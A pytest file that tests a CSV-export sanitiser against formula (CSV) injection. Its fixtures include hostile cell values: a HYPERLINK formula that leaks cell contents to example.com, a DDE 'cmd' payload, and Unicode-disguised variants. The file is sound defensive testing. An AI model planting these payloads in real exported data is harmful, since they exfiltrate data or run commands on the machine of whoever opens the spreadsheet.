"""CSV in which no cell is a formula (OWASP, CSV injection)."""

import csv
from io import StringIO
from time import process_time

import pytest

from app.domain.spreadsheets import csv_lines, safe_cell

FORMULAS = (
    "=1+1",
    "+44 1332 341822",
    "-2+3",
    "@SUM(A1:A9)",
    '=HYPERLINK("https://example.com?leak="&A1)',
    "=cmd|' /C calc'!A0",
    " =1+1",
    "\u00a0=1+1",
    "\ttext",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
)
# As a spreadsheet would read them whose cells end at semicolons: quotes within a cell hold nothing together.
SPLIT = (
    ("\t=1+1", "'\t'=1+1"),
    ("\r=1+1", "'\r'=1+1"),
    ("\n=1+1", "'\n'=1+1"),
    ("Trent;=1+1", "Trent;'=1+1"),
    ('Trent; "=1+1";@A', "Trent; \"'=1+1\";'@A"),
    ("one\r\n\u00a0\uff1d1", "one\r\n\u00a0'\uff1d1"),
    ('{"note":"a;-1"}', '{"note":"a;\'-1"}'),
)
HARMLESS = (
    "",
    "Trent Academy",
    "a=b",
    "1-2",
    "O'Brien",
    '{"due": "=1"}',
    "2026-09-01",
    "'quoted'",
    "Gŵyr",
    "a; b = c",
    "a;b",
)


@pytest.mark.parametrize("value", FORMULAS)
def test_what_a_spreadsheet_would_run_begins_with_an_apostrophe(value: str) -> None:
    assert safe_cell(value) == f"'{value}"


@pytest.mark.parametrize(("value", "safe"), SPLIT)
def test_what_is_left_of_a_cell_that_was_split_is_no_formula_either(value: str, safe: str) -> None:
    assert safe_cell(value) == safe


def test_a_long_value_is_made_safe_at_once() -> None:
    for unit in (";", "\n", '; "', "\t ", " "):
        started = process_time()
        assert safe_cell(unit * 100_000 + "=1").endswith("'=1") or unit == " "
        assert process_time() - started < 5


@pytest.mark.parametrize("value", HARMLESS)
def test_other_values_stay_as_they_are(value: str) -> None:
    assert safe_cell(value) == value


def test_every_cell_is_quoted_and_read_back_as_one() -> None:
    """Separators, quotation marks and line breaks make no other cell and no other row."""
    rows: list[list[str | None]] = [["a,b;c", 'say "so"', "two\r\nlines", None], [*FORMULAS]]
    written = csv_lines(rows)
    assert written.startswith('"a,b;c","say ""so""","two\r\nlines",""\r\n')
    read = list(csv.reader(StringIO(written, newline="")))
    assert read == [["a,b;c", 'say "so"', "two\r\nlines", ""], [f"'{value}" for value in FORMULAS]]
